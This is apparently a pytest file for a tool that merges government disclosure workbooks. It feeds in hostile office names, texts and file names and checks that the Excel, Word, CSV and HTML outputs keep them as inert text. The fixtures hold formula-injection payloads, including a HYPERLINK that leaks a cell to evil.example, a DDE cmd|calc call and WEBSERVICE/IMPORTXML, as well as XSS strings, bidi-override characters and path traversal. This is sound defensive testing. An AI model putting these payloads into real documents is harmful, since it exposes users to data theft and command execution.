"""Names and texts that mean no good: in every output they are words, never a formula, a link, a tag or a command."""

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from lxml import html

from disclosure_batch.outputs.notices.marked import TO_MEND, TO_VERIFY
from disclosure_batch.outputs.notices.orders import is_harmless
from tests.district import FORM, YEAR, District, cell_of
from tests.run import Run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"请点击")'
NAMES = {
    "410801": FORMULA,
    "410802": "@SUM(1)<script>alert(1)</script>",
    "410803": "+1局\u202e名反",
}
TEXTS = {
    "410801": '-1+cmd|" /C calc"!A1\n=1+1\n<img src=x onerror=alert(2)>',
    "410802": "_x0000__x000B_ &lt;b&gt; {{ 7*7 }} {% raw %} [red]x[/red]",
    "410803": "\t=IMPORTXML(A1)\r\n@echo off\u2067 ../../外",
}
# "<script>" would be a folder of its own on Linux; what no file system takes can't come in a name
FILE_NAMES = {"410801": '=HYPERLINK("http：evil")', "410802": "@SUM(1)<script>alert(1)<b>", "410803": "-1\u202excod"}
ESCAPED = "控制符_x000B__x0001__xFFFE__xD800_字"  # how a workbook writes what XML can't hold
UNSEEN = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
EVIL = re.compile(r"evil|cmd\||IMPORTXML|alert\(|SUM\(1\)|onerror", re.IGNORECASE)


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Run:
    """Each office has a hostile name, texts, figures and name of its file; one has to mend something."""
    district = District(tmp_path_factory.mktemp("words"))
    for code, name in NAMES.items():
        office = district.office(code)
        office.values["unit.name"] = name
        for field in ("text.overview", "text.problems", "text.other_matters", "unit.prepared_by", "explanation.other"):
            if field in FORM.fields:
                office.values[field] = TEXTS[code]
    district.office("410801").type("requests.new.natural_person", FORMULA)
    district.office("410802").edit(lambda book: _string(book["三、依申请公开"]["D7"], "=cmd|' /C calc'!A0"))
    district.office("410801").edit(lambda book: _string(cell_of(book, "text.improvements"), ESCAPED))
    district.office("410803").edit(lambda book: setattr(book["三、依申请公开"], "title", "=1+1@SUM(1)"))
    district.receive()
    for code, name in FILE_NAMES.items():
        (path,) = district.received.glob(f"{code}_*") or [None]
        path.rename(path.with_name(f"{name}.xlsx".replace("/", "／")))
    return district.merge("--on-error", "include", "--year", str(YEAR), roster=False, receive=False, whole=True)


def _string(cell, text: str) -> None:
    cell.value = text
    cell.data_type = "s"


def outputs(run: Run, ending: str) -> list[Path]:
    found = sorted(run.folder.rglob(f"*{ending}"))
    assert found
    return found


def is_marked(path: Path) -> bool:
    return path.name.endswith((TO_MEND, TO_VERIFY))


def test_all_of_them_are_taken(run: Run):
    assert set(run.file_states().values()) <= {"accepted", "included"}, run.findings()
    said = (run.folder / "manifest.json").read_text(encoding="utf-8")
    assert "HYPERLINK" in said and "SUM(1)" in said  # or nothing is tried here


def live_formulas(path: Path) -> list[tuple[str, str, str]]:
    """Formulas and links of theirs: sheet, cell, and what stands there."""
    cells = [
        (page.title, cell)
        for page in openpyxl.load_workbook(path).worksheets
        for row in page.iter_rows()
        for cell in row
    ]
    said = [
        (title, cell, str(cell.value) if cell.data_type == "f" else str(cell.hyperlink and cell.hyperlink.target))
        for title, cell in cells
    ]
    return [(title, cell.coordinate, words) for title, cell, words in said if EVIL.search(words)]


def test_no_formula_of_theirs_is_live_in_a_workbook_of_ours(run: Run):
    for path in outputs(run, ".xlsx"):
        if not is_marked(path):
            assert not live_formulas(path), path.name


def test_a_marked_copy_calculates_and_does_nothing_else(run: Run):
    """It is their own workbook; what reaches out of it is text there."""
    copies = [path for path in outputs(run, ".xlsx") if is_marked(path)]
    assert copies
    for path in copies:
        assert not live_formulas(path), path.name


@pytest.mark.parametrize(
    ("formula", "harmless"),
    [
        ("=SUM(D7:I7)", True),
        ("=ROUND('三、依申请公开'!D7/2,0)+B$6", True),
        ('=IF(D7>0,"有[1]|http://","无")', True),
        ('=HYPERLINK("http://evil.example")', False),
        ("=cmd|' /C calc'!A0", False),
        ("=[1]表!A1", False),
        ("='C:\\资料\\[上年.xlsx]表'!A1", False),
        ('=_xlfn.WEBSERVICE("http://evil.example")', False),
        ("=INDIRECT(A1)", False),
    ],
)
def test_what_a_formula_may_do(formula, harmless):
    assert is_harmless(formula) == harmless


def test_the_consolidated_workbook_says_their_words(run: Run):
    book = openpyxl.load_workbook(run.product("汇总表.xlsx"))
    words = [
        str(cell.value)
        for page in book.worksheets
        for row in page.iter_rows()
        for cell in row
        if cell.data_type in "si"
    ]
    assert any(FORMULA in text for text in words)


def test_nothing_links_outward(run: Run):
    for path in [*outputs(run, ".xlsx"), *outputs(run, ".docx")]:
        with zipfile.ZipFile(path) as book:
            for name in book.namelist():
                if name.endswith(".rels"):
                    assert b"evil" not in book.read(name), (path.name, name)


def test_every_part_is_well_formed_and_holds_no_unseen_character(run: Run):
    for path in [*outputs(run, ".xlsx"), *outputs(run, ".docx")]:
        with zipfile.ZipFile(path) as book:
            for name in book.namelist():
                if name.endswith((".xml", ".rels")):
                    text = "".join(ElementTree.parse(io.BytesIO(book.read(name))).getroot().itertext())
                    assert not UNSEEN.search(text), (path.name, name, UNSEEN.search(text))


def test_no_field_of_a_document_is_theirs(run: Run):
    for path in outputs(run, ".docx"):
        with zipfile.ZipFile(path) as book:
            xml = book.read("word/document.xml").decode()
        fields = re.findall(r"<w:instrText[^>]*>([^<]*)<|w:instr=\"([^\"]*)\"", xml)
        assert not any(EVIL.search(a + b) for a, b in fields), path.name


def test_no_cell_of_the_data_begins_a_formula(run: Run):
    with run.product("数据.csv").open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file):
            for cell in row:
                assert not re.match(r"[=+@\t\r]|-(?!\d)", cell), row


def test_pages_hold_their_words_and_none_of_their_tags(run: Run):
    for path in outputs(run, ".html"):
        page = html.document_fromstring(path.read_text(encoding="utf-8"))
        text = path.read_text(encoding="utf-8")
        assert not UNSEEN.search(text), (path.name, UNSEEN.search(text))
        for script in page.iter("script"):  # words stand in a page as data alone
            if script.get("type") == "application/json":
                json.loads(script.text)
            else:
                assert "alert(1)" not in script.text, path.name
        for element in page.iter():
            if isinstance(element.tag, str):
                assert not [name for name in element.attrib if name.startswith("on")], (path.name, element.tag)
                assert not EVIL.search(element.get("href", "") + element.get("src", "")), path.name


def test_texts_hold_no_unseen_character(run: Run):
    for path in outputs(run, ".txt"):
        assert not UNSEEN.search(path.read_text(encoding="utf-8-sig")), path.name


def test_the_terminal_is_told_no_unseen_character(run: Run):
    assert not UNSEEN.search(run.text)


def test_no_file_is_named_by_them(run: Run):
    for path in run.folder.rglob("*"):
        assert not re.search(r'[<>:"\\|?*\x00-\x1f\u202e]', path.name), path.name
        assert run.folder in path.resolve().parents
